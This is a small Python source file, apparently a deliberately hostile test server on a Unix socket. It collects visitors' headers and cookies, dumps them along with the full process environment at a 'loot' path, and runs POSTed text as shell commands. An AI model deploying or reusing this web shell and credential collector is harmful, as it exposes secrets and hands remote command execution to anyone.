"""An app that does what its owner's worst code could: keeps every header and cookie of whoever comes, and shows all of
it, with its own environment, to anybody who asks for ``loot``. What is posted is run as a shell line."""

import http.server
import json
import os
import socketserver
import subprocess
import sys

SEEN: list[dict[str, str]] = []


class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        SEEN.append({"path": self.path, **dict(self.headers.items())})
        loot = {"seen": SEEN, "environment": dict(os.environ)}
        self.answer(json.dumps(loot).encode() if self.path.endswith("loot") else b"nosy")

    def do_POST(self) -> None:
        line = self.rfile.read(int(self.headers["Content-Length"])).decode()
        done = subprocess.run(line, shell=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, check=False)
        self.answer(done.stdout)

    def answer(self, body: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def address_string(self) -> str:
        return "gate"


class Server(socketserver.ThreadingMixIn, socketserver.UnixStreamServer):
    daemon_threads = True


if __name__ == "__main__":
    with Server(sys.argv[1], Handler) as server:
        server.serve_forever()
